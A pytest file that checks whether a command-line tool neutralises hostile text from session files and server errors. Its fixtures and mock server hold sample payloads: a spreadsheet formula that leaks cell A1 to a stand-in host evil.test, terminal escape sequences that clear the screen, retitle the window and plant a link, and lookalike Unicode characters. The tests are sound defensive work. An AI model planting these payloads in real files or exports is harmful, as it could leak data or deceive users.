"""Text we did not write reaches the terminal and spreadsheets harmless (issue 13, findings 10 and 11).

The attacks, reproduced: a session file whose character, place and quest names are a spreadsheet formula,
a terminal escape sequence (window title, bell) and Rich markup; a server whose error code and message
carry escape sequences (clear screen, window title, hyperlink) and markup. What must hold: no raw control
character reaches the output, markup is printed as the text it is, and no CSV cell starts a formula.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.text import Text

from helpers.cli import run
from helpers.servers import serving_thread
from swgdb_bridge.textsafe import for_markup, spreadsheet_safe, visible

FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"click me")'
TITLE = "\x1b]0;pwned\x07Naboo"
MARKUP = "[bold red]x[/]"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.test\x07link\x1b]8;;\x07"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def assert_no_raw_controls(text: str) -> None:
    assert not [c for c in text if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F)], repr(text)


@pytest.fixture
def hostile(tmp_path: Path, corpus_dir: Path) -> tuple[Path, str]:
    """A folder with one real tracker session renamed and relabelled by an attacker; (folder, session id)."""
    doc = json.loads((corpus_dir / "tracker" / "session_20261001_200100_0000.json").read_text())
    doc["character_name"] = FORMULA
    doc["locations_visited"][0]["planet"] = TITLE
    doc["quests_completed"][0] = MARKUP
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "session.json").write_text(json.dumps(doc))
    return folder, doc["session_id"]


def test_names_from_a_session_file_are_shown_not_obeyed(hostile: tuple[Path, str]) -> None:
    folder, session_id = hostile
    listing = run("logs", "--dir", str(folder), "--list", env={"COLUMNS": "400"})
    view = run("logs", "--dir", str(folder), "--view", session_id, env={"COLUMNS": "400"})
    preview = run("preview", str(folder / "session.json"), env={"COLUMNS": "400"})
    for done in (listing, view, preview):
        assert done.returncode == 0, done.stderr
        assert_no_raw_controls(done.stdout + done.stderr)
        assert visible(TITLE) in done.stdout  # shown as \x1b]0;pwned\x07Naboo
    assert MARKUP in view.stdout  # printed as the text it is, not as bold red
    assert FORMULA in listing.stdout


FORGED_ROW = "Bob\u2028│ session_x │ Admin │ sent"
"""A name whose line separator Rich (str.splitlines) breaks at: a forged row in any table it is printed in."""
LOOKALIKES = ("\u061c", "\u200b", "\u2029", "\u2060", "\ufeff", "\U000e0041")
"""A bidi mark Trojan Source uses, and invisible characters that make two names look alike."""


def test_line_separators_and_invisible_characters_are_shown_not_obeyed(
    hostile: tuple[Path, str], tmp_path: Path
) -> None:
    """Was: U+2028 in a character name broke the row of ``logs --list`` in two; U+061C, U+200B... raw."""
    folder, session_id = hostile
    doc = json.loads((folder / "session.json").read_text())
    doc["character_name"] = FORGED_ROW + "".join(LOOKALIKES)
    (folder / "session.json").write_text(json.dumps(doc))
    listing = run("logs", "--dir", str(folder), "--list", env={"COLUMNS": "400"})
    view = run("logs", "--dir", str(folder), "--view", session_id, env={"COLUMNS": "400"})
    for done in (listing, view):
        assert done.returncode == 0, done.stderr
        raw = [char for char in (*LOOKALIKES, "\u2028") if char in done.stdout]
        assert not raw, raw
        assert "Bob\\u2028│ session_x" in done.stdout


@pytest.mark.parametrize("char", ["\u2028", *LOOKALIKES, "\u202e"])
def test_visible_writes_each_unsafe_character_as_an_escape(char: str) -> None:
    shown = visible(f"a{char}b")
    assert char not in shown and shown.startswith("a\\") and shown.endswith("b")


def test_csv_exports_hold_no_live_formulas(hostile: tuple[Path, str]) -> None:
    folder, session_id = hostile
    listing = run("logs", "--dir", str(folder), "--export", "all", "--format", "csv")
    timeline = run("logs", "--dir", str(folder), "--export", session_id, "--format", "csv")
    for done in (listing, timeline):
        assert done.returncode == 0, done.stderr
        cells = [cell for row in csv.reader(io.StringIO(done.stdout)) for cell in row]
        assert cells and not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    rows = list(csv.DictReader(io.StringIO(listing.stdout)))
    assert rows[0]["character"] == "'" + FORMULA  # neutralized, and nothing else changed


class _HostileServer(BaseHTTPRequestHandler):
    """Refuses everything with an error code and message full of escape sequences and markup."""

    def do_GET(self) -> None:
        body = json.dumps({"error": ESCAPES, "message": f"{ESCAPES} {MARKUP}"}).encode()
        self.send_response(403)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *args: object) -> None:
        """Quiet: the test reads the client's output, not this server's log."""


@pytest.fixture
def hostile_server() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileServer)  # port 0: the OS picks, nothing races
    thread = serving_thread(server, "hostile-server")
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("command", [["check"], ["status", "s-1"]])
def test_a_servers_error_message_is_shown_not_obeyed(hostile_server: str, command: list[str]) -> None:
    env = {"SWGDB_API_URL": hostile_server, "SWGDB_API_KEY": "k" * 40, "SWGDB_USER_HASH": "u" * 32}
    done = run(*command, env=env)
    assert done.returncode in (1, 3), done.stdout + done.stderr
    assert_no_raw_controls(done.stdout + done.stderr)
    assert visible(ESCAPES) in done.stdout and MARKUP in done.stdout


@given(st.text())
def test_markup_safe_text_renders_as_the_visible_text(text: str) -> None:
    """Inside markup, as the commands use it (a trailing backslash must not escape the closing tag)."""
    assert Text.from_markup(f"[bold]{for_markup(text)}[/bold]").plain == visible(text)
    assert_no_raw_controls(visible(text).replace("\n", "\\n"))


@given(st.one_of(st.text(), st.integers(), st.none()))
def test_a_neutralized_cell_never_starts_a_formula_and_keeps_its_text(value: object) -> None:
    safe = spreadsheet_safe(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        assert safe == "'" + value
    else:
        assert safe == value
